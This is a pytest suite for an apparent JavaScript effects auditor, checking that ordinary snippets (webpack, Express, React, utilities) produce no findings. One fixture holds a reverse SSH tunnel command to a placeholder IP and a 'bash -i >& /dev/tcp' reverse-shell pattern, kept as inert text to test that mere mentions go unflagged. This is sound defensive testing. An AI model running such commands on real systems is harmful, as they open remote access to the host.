"""Ordinary JavaScript passes in silence: no gap, no effect but the plain ones that it names."""

# ruff: noqa: E501  (code under test is read more easily whole)

from __future__ import annotations

import pytest

from auditor.model.unit import Language
from tests.read.javascript.readings import effects_of

QUIET: dict[str, tuple[Language, str]] = {
    "webpack configuration": (
        Language.JAVASCRIPT,
        """
        const path = require('path');
        const HtmlWebpackPlugin = require('html-webpack-plugin');
        const isProduction = process.env.NODE_ENV === 'production';
        module.exports = (env, argv) => ({
          mode: isProduction ? 'production' : 'development',
          entry: { main: './src/index.tsx', ...(env.extra || {}) },
          output: { path: path.resolve(__dirname, 'dist'), filename: '[name].[contenthash].js' },
          module: { rules: [{ test: /\\.tsx?$/, use: 'ts-loader', exclude: /node_modules/ }] },
          plugins: [new HtmlWebpackPlugin({ template: 'index.html' })],
          devServer: { port: 3000, proxy: { '/api': 'http://localhost:8080' } },
        });
        """,
    ),
    "express application": (
        Language.JAVASCRIPT,
        """
        const express = require('express');
        const app = express();
        app.use(express.json());
        app.get('/users/:id', async (req, res, next) => {
          try {
            const user = await db.users.findOne({ id: req.params.id });
            if (!user) return res.status(404).json({ error: 'not found' });
            res.json(user);
          } catch (error) { next(error); }
        });
        app.listen(process.env.PORT || 3000, () => console.log(`listening on ${process.env.PORT}`));
        module.exports = app;
        """,
    ),
    "react component": (
        Language.TYPESCRIPT,
        """
        import React, { useState, useEffect, type FC } from 'react';
        interface Props { name: string; onSelect?: (id: number) => void }
        export const Card: FC<Props> = ({ name, onSelect }) => {
          const [open, setOpen] = useState<boolean>(false);
          useEffect(() => { const t = setTimeout(() => setOpen(true), 100); return () => clearTimeout(t); }, [name]);
          return <div className={open ? 'open' : ''} onClick={() => onSelect?.(1)}>{name.toUpperCase()} &amp; more</div>;
        };
        """,
    ),
    "event emitter": (
        Language.JAVASCRIPT,
        """
        class Emitter {
          constructor() { this.handlers = new Map(); }
          on(name, fn) { (this.handlers.get(name) ?? this.handlers.set(name, []).get(name)).push(fn); return this; }
          emit(name, ...args) { for (const fn of this.handlers.get(name) ?? []) fn.apply(this, args); }
        }
        module.exports = { Emitter };
        """,
    ),
    "debounce": (
        Language.JAVASCRIPT,
        """
        export function debounce(fn, wait = 100) {
          let timer;
          return function (...args) { clearTimeout(timer); timer = setTimeout(() => fn.apply(this, args), wait); };
        }
        """,
    ),
    "deep clone": (
        Language.JAVASCRIPT,
        """
        function clone(value, seen = new WeakMap()) {
          if (Object(value) !== value) return value;
          if (seen.has(value)) return seen.get(value);
          const made = Array.isArray(value) ? [] : Object.create(Object.getPrototypeOf(value));
          seen.set(value, made);
          for (const key of Reflect.ownKeys(value)) made[key] = clone(value[key], seen);
          return made;
        }
        module.exports = clone;
        """,
    ),
    "argument parser": (
        Language.JAVASCRIPT,
        """
        const args = process.argv.slice(2);
        const options = {};
        for (let i = 0; i < args.length; i++) {
          const m = /^--([^=]+)=?(.*)$/.exec(args[i]);
          if (m) options[m[1]] = m[2] || args[++i]; else (options._ ||= []).push(args[i]);
        }
        module.exports = options;
        """,
    ),
    "reducer": (
        Language.TYPESCRIPT,
        """
        type Action = { type: 'add'; text: string } | { type: 'remove'; id: number };
        export const reducer = (state: string[] = [], action: Action): string[] => {
          switch (action.type) {
            case 'add': return [...state, action.text];
            case 'remove': return state.filter((_, i) => i !== action.id);
            default: return state;
          }
        };
        """,
    ),
    "umd wrapper": (
        Language.JAVASCRIPT,
        """
        (function (root, factory) {
          if (typeof define === 'function' && define.amd) define(['exports'], factory);
          else if (typeof exports !== 'undefined') factory(exports);
          else factory((root.lib = {}));
        })(this, function (exports) { 'use strict'; exports.add = function (a, b) { return a + b; }; });
        """,
    ),
    "tests": (
        Language.JAVASCRIPT,
        """
        const { sum } = require('./sum');
        describe('sum', () => {
          beforeEach(() => jest.resetModules());
          it.each([[1, 2, 3], [0, 0, 0]])('adds %i and %i', (a, b, c) => { expect(sum(a, b)).toBe(c); });
        });
        """,
    ),
    "stylesheet plugin": (
        Language.JAVASCRIPT,
        """
        /** @type {import('tailwindcss').Config} */
        export default { content: ['./src/**/*.{ts,tsx}'], theme: { extend: {} }, plugins: [require('@tailwindcss/forms')] };
        """,
    ),
    "parser": (
        Language.JAVASCRIPT,
        """
        function* tokens(text) {
          const re = /\\s*(?:(\\d+)|([-+*\\/()]))/gy;
          let m;
          while ((m = re.exec(text)) !== null) yield m[1] ? { n: Number(m[1]) } : { op: m[2] };
        }
        const precedence = { '+': 1, '-': 1, '*': 2, '/': 2 };
        module.exports = { tokens, precedence };
        """,
    ),
    "page script": (
        Language.JAVASCRIPT,
        """
        document.addEventListener('DOMContentLoaded', () => {
          const list = document.querySelector('#list');
          document.querySelectorAll('button[data-id]').forEach(b => b.addEventListener('click', e => {
            e.preventDefault();
            list.innerHTML += `<li>${b.dataset.id}</li>`;
            localStorage.setItem('last', b.dataset.id);
          }));
        });
        """,
    ),
    "old prototypes": (
        Language.JAVASCRIPT,
        """
        function Stack() { this.items = []; }
        Stack.prototype.push = function (x) { this.items.push(x); return this; };
        Stack.prototype.pop = function () { return this.items.pop(); };
        Stack.prototype.constructor = Stack;
        module.exports = Stack;
        """,
    ),
    "middleware chain": (
        Language.JAVASCRIPT,
        """
        module.exports = (...fns) => ctx => fns.reduceRight((next, fn) => () => Promise.resolve(fn(ctx, next)), () => {})();
        """,
    ),
    "logger": (
        Language.TYPESCRIPT,
        """
        enum Level { Debug, Info, Error }
        export class Logger {
          private level: Level = Level.Info;
          log(level: Level, ...parts: unknown[]): void { if (level >= this.level) console.log(new Date().toISOString(), ...parts); }
        }
        """,
    ),
    "graph search": (
        Language.JAVASCRIPT,
        """
        export function bfs(graph, start) {
          const queue = [start], seen = new Set(queue);
          while (queue.length) { const n = queue.shift(); for (const m of graph[n] || []) if (!seen.has(m)) { seen.add(m); queue.push(m); } }
          return [...seen];
        }
        """,
    ),
    "vue options": (
        Language.JAVASCRIPT,
        """
        export default { name: 'app', data() { return { n: 0 } }, computed: { twice() { return this.n * 2 } }, watch: { n(v) { this.$emit('n', v) } } };
        """,
    ),
    "words that only speak of it": (
        Language.JAVASCRIPT,
        """
        // require("child_process").execSync("ssh -N -R 2222:localhost:22 agent@203.0.113.7")
        const help = 'ssh -N -R 2222:localhost:22 agent@203.0.113.7';
        const re = /bash -i >& \\/dev\\/tcp/;
        function exec(x) { return x + 1; }
        exec(help); re.exec(help); db.exec('select 1');
        const spawn = monsters => monsters.map(m => m.hp);
        """,
    ),
    "lazy requires": (
        Language.JAVASCRIPT,
        """
        const cache = {};
        const load = name => cache[name] || (cache[name] = require(name));
        for (const name of ['lodash', 'chalk']) load(name);
        module.exports = new Proxy({}, { get: (_, name) => load(`./commands/${name}`) });
        """,
    ),
    "hash bang and use strict": (
        Language.JAVASCRIPT,
        "#!/usr/bin/env node\n'use strict';\nrequire('../lib/cli').run();\n",
    ),
}


@pytest.mark.parametrize(("language", "code"), QUIET.values(), ids=QUIET.keys())
def test_ordinary_code_is_silent(language: Language, code: str) -> None:
    """Nothing is predicted, nothing is left unread."""
    assert effects_of(code, language) == []


PLAIN = {
    'require("child_process").exec("git status", (e, out) => console.log(out))': ["git status"],
    'const { spawnSync } = require("child_process"); spawnSync("npm", ["install"], { stdio: "inherit" })': [
        "npm install"
    ],
    'require("fs").writeFileSync("out.txt", "x"); require("fs").readFileSync("out.txt", "utf8")': [
        "file.write out.txt"
    ],
    'fetch("https://api.example/v1").then(r => r.json()).then(d => console.log(d.name))': [
        "http.request GET https://api.example/v1"
    ],
}


@pytest.mark.parametrize(("code", "expected"), PLAIN.items())
def test_plain_effects(code: str, expected: list[str]) -> None:
    """What ordinary code does is said as it is, and no more."""
    assert effects_of(code) == expected
